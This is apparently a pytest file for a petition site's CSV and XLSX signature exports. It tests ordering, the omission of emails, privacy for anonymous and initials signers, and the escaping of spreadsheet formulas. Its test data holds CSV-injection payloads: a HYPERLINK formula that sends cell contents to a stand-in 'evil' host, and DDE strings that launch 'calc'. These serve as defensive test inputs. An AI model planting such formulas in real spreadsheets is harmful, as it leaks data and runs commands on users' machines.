"""csv and xlsx: one row per confirmed signature, in list order, never a formula, never an email."""
from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from petition.extensions import db
from petition.models import CONFIRMED, INDIVIDUAL, MOD_HELD, PENDING, Signature

from .export_helpers import exported, sample_letter
from .factories import make_letter, make_signature

INJECTIONS = {
    "=HYPERLINK(\"http://evil/?\"&A1,\"x\")": "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
    "+33 1 23": "'+33 1 23",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'=1+1",
    "\r=1+1": "'=1+1",
    "Line\nbreak": "Line break",
    "<b>bold</b>": "<b>bold</b>",
}
HEADER = [
    "id", "type", "name", "affiliation", "country", "country_name", "display", "listed_as",
    "moderation", "source", "language", "signed_at", "confirmed_at",
]


def _csv(data: bytes) -> list[dict]:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the accents right
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_rows_in_list_order_without_email(app):
    letter = sample_letter()
    make_signature(letter, country="DE", name="Held Org", moderation=MOD_HELD)
    make_signature(letter, country="DE", name="Pending Org", status=PENDING)
    data = exported(letter, "csv")
    rows = _csv(data)
    assert list(rows[0].keys()) == HEADER
    assert [(r["country_name"], r["name"]) for r in rows[:3]] == [
        ("Allemagne", "BAG Russischsprachige Linke"), ("Allemagne", "Campagne #FREE120"),
        ("Allemagne", "Held Org"),
    ]
    assert rows[2]["moderation"] == "held"
    assert "Pending Org" not in data.decode("utf-8-sig")
    assert [r["country"] for r in rows[3:6]] == ["EG", "ES", "europe"]
    assert rows[4]["country_name"] == "Etat espagnol"
    # Those who chose initials or not to be listed keep that choice in a forwarded file.
    text = data.decode("utf-8-sig")
    assert "Anne Secret" not in text and "Sartre" not in text
    secret = next(r for r in rows if r["display"] == "anonymous")
    assert (secret["name"], secret["listed_as"]) == ("", "")
    sartre = next(r for r in rows if r["display"] == "initials")
    assert sartre["name"] == sartre["listed_as"] == "J.-P. S."
    assert dt.datetime.fromisoformat(
        rows[0]["confirmed_at"].replace("Z", "+00:00")).tzinfo is not None
    assert "@" not in data.decode("utf-8-sig")  # no address, not even a hash column
    assert "email" not in ",".join(HEADER)


def test_private_rows_hold_real_names_only_when_asked(app):
    letter = sample_letter()
    rows = _csv(exported(letter, "csv", private=True))
    secret = next(r for r in rows if r["name"] == "Anne Secret")
    assert (secret["display"], secret["listed_as"]) == ("anonymous", "")
    sartre = next(r for r in rows if r["name"] == "Jean-Paul Sartre")
    assert sartre["listed_as"] == "J.-P. S."
    for private, present in ((False, False), (True, True)):
        workbook = load_workbook(io.BytesIO(exported(letter, "xlsx", private=private)))
        cells = {cell.value for sheet in workbook.worksheets for row in sheet.iter_rows()
                 for cell in row}
        workbook.close()
        assert ("Anne Secret" in cells) is present and ("Jean-Paul Sartre" in cells) is present


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_rows_never_sorted_by_hidden_names(app, fmt):
    """Initials sort by the initials, the unlisted come last in random order: the order of
    rows must not tell where a hidden name falls in the alphabet."""
    letter = make_letter()
    for name in ("Alice Zimmer", "Anna Brown"):  # real-name order is the reverse of A. B., A. Z.
        make_signature(letter, signer_type=INDIVIDUAL, name=name, display="initials", country="FR")
    hidden = [make_signature(letter, signer_type=INDIVIDUAL, name=name, display="anonymous",
                             country="FR") for name in ("Aaron A", "Mia M", "Zeno Z")]
    make_signature(letter, signer_type=INDIVIDUAL, name="Yves Listed", country="FR")
    for private in (False, True):
        data = exported(letter, fmt, private=private)
        if fmt == "csv":
            rows = [(row["id"], row["listed_as"]) for row in _csv(data)]
        else:
            sheet = load_workbook(io.BytesIO(data))["Signatures"]
            rows = [(row[0], row[7] or "") for row in sheet.iter_rows(min_row=2, values_only=True)]
        assert [line for _, line in rows[:3]] == ["A. B.", "A. Z.", "Yves Listed"]
        assert [public_id for public_id, _ in rows[3:]] == sorted(s.public_id for s in hidden)


def test_csv_neutralises_formulas(app):
    letter = make_letter()
    for name in INJECTIONS:
        make_signature(letter, country="FR", name=name, signer_type=INDIVIDUAL, affiliation=name)
    rows = _csv(exported(letter, "csv"))
    assert sorted(r["name"] for r in rows) == sorted(INJECTIONS.values())
    for row in rows:
        assert row["affiliation"] == row["name"]
        for column in ("name", "affiliation", "listed_as"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r"))


# Names a French or Russian spreadsheet, splitting on ";", would cut into formulas.
SEPARATED = {
    "Jean;=1+1;x": "Jean;'=1+1;x",
    "Dupont,+33 1 23": "Dupont,'+33 1 23",
    "a|@SUM(1)": "a|'@SUM(1)",
    "c; -2+3": "c; '-2+3",
    'd;"=1+1"': 'd;"\'=1+1"',
    "＝1+1": "'＝1+1",
    "e;＠SUM(1)": "e;'＠SUM(1)",
    "'=1+1": "''=1+1",
}
FORMULA_CHARS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def assert_no_formula_however_split(data: bytes) -> None:
    """Assert no field starts a formula, whatever separator a spreadsheet splits on."""
    text = data.decode("utf-8-sig")
    for separator in ";,\t|":
        for row in csv.reader(io.StringIO(text), delimiter=separator):
            for field in row:
                assert not field.lstrip(' "').startswith(FORMULA_CHARS), (separator, field)
        for line in text.splitlines():  # a reader that ignores the quotes altogether
            for piece in line.split(separator):
                assert not piece.lstrip(' "').startswith(FORMULA_CHARS), (separator, piece)


def test_csv_neutralises_formulas_after_separators(app):
    """Quote every cell and guard formula starts after any separator a spreadsheet splits on."""
    letter = make_letter()
    for name in SEPARATED:
        make_signature(letter, country="FR", name=name, signer_type=INDIVIDUAL, affiliation=name)
    data = exported(letter, "csv")
    rows = _csv(data)
    assert sorted(r["name"] for r in rows) == sorted(SEPARATED.values())
    assert all(row["affiliation"] == row["name"] for row in rows)
    assert all(line.startswith('"') for line in data.decode("utf-8-sig").splitlines())
    assert_no_formula_however_split(data)


def test_xlsx_sheets(app):
    letter = sample_letter()
    workbook = load_workbook(io.BytesIO(exported(letter, "xlsx", layout="submission")))
    assert workbook.sheetnames == ["Signatures", "Summary"]
    sheet = workbook["Signatures"]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADER
    assert [row[2] for row in rows[1:4]] == [
        "BAG Russischsprachige Linke", "Campagne #FREE120", "Égyptiens libres",
    ]
    # The random public id, never the row id: a gap between two ids would tell who signed.
    ids = {row[0] for row in rows[1:]}
    assert ids == {s.public_id for s in db.session.scalars(select(Signature))
                   if s.status == CONFIRMED}
    assert isinstance(rows[1][12], dt.datetime)
    assert sheet["A1"].font.b and sheet.freeze_panes == "A2"
    summary = list(workbook["Summary"].iter_rows(values_only=True))
    assert summary[1] == ("Organisations", "Allemagne", 2)
    assert ("Signataires individuels", "France", 3) in summary
    assert any(row[1] == "Total : 9 signataires" and row[2] == 9 for row in summary)


def test_xlsx_neutralises_formulas_and_keeps_text(app):
    letter = make_letter()
    for name in INJECTIONS:
        make_signature(letter, country="FR", name=name, signer_type=INDIVIDUAL, affiliation=name)
    workbook = load_workbook(io.BytesIO(exported(letter, "xlsx")))
    sheet = workbook["Signatures"]
    names = []
    for row in sheet.iter_rows(min_row=2):
        for cell in (row[2], row[3], row[7]):
            assert cell.data_type == "s"  # a string, never a formula
            assert not str(cell.value).startswith(("=", "+", "-", "@", "\t", "\r"))
        names.append(row[2].value)
    assert sorted(names) == sorted(INJECTIONS.values())


@pytest.mark.sqlite_only
def test_xlsx_control_characters(app):
    letter = make_letter()
    make_signature(letter, country="FR", name="Bell\x07 and \x00null")
    workbook = load_workbook(io.BytesIO(exported(letter, "xlsx")))
    assert workbook["Signatures"]["C2"].value == "Bell\u2407 and \u2400null"


@pytest.mark.parametrize("private", [False, True])
def test_unlisted_rows_keep_only_the_day_of_signing(app, private):
    """Round the times of unlisted rows to the UTC day; keep listed rows to the second."""
    letter = make_letter()
    listed = make_signature(letter, signer_type=INDIVIDUAL, name="Yves Listed", country="FR")
    hidden = make_signature(letter, signer_type=INDIVIDUAL, name="Anne Secret",
                            display="anonymous", country="FR")
    when = dt.datetime(2026, 5, 21, 23, 59, 58, 123456)
    for signature in (listed, hidden):
        signature.created_at = when - dt.timedelta(minutes=3)
        signature.confirmed_at = when
    db.session.commit()
    rows = {row["listed_as"]: row for row in _csv(exported(letter, "csv", private=private))}
    assert (rows["Yves Listed"]["signed_at"], rows["Yves Listed"]["confirmed_at"]) == \
        ("2026-05-21T23:56:58Z", "2026-05-21T23:59:58Z")
    assert (rows[""]["signed_at"], rows[""]["confirmed_at"]) == ("2026-05-21", "2026-05-21")
    sheet = load_workbook(io.BytesIO(exported(letter, "xlsx", private=private)))["Signatures"]
    cells = {row[7] or "": row[11:13] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert cells["Yves Listed"] == (dt.datetime(2026, 5, 21, 23, 56, 58),
                                    dt.datetime(2026, 5, 21, 23, 59, 58))
    assert cells[""] == (dt.datetime(2026, 5, 21), dt.datetime(2026, 5, 21))
    unlisted = next(row for row in sheet.iter_rows(min_row=2) if not row[7].value)
    assert unlisted[12].number_format == "yyyy-mm-dd"  # a date, no time of day shown
